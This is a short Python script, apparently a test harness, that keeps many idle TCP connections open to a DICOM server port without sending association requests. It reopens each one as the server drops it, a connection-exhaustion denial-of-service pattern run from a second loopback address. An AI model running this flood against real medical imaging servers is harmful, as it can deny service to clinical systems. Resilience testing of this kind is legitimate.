"""Keeps N TCP connections open to the DICOM port without ever sending an
association request, reopening each as soon as the server closes it, for
SECONDS, from SOURCE (another loopback address: another host, as an
attacker would be). Prints how many connections it opened in all."""
import socket, sys, time, selectors

host, port, n, seconds, source = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
sel = selectors.DefaultSelector()
opened = 0
def open_one():
    global opened
    s = socket.socket()
    s.bind((source, 0))
    s.setblocking(False)
    s.connect_ex((host, port))
    sel.register(s, selectors.EVENT_READ)
    opened += 1
for _ in range(n):
    open_one()
end = time.time() + seconds
while time.time() < end:
    for key, _ in sel.select(timeout=0.5):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:
            sel.unregister(s)
            s.close()
            open_one()
print(opened)
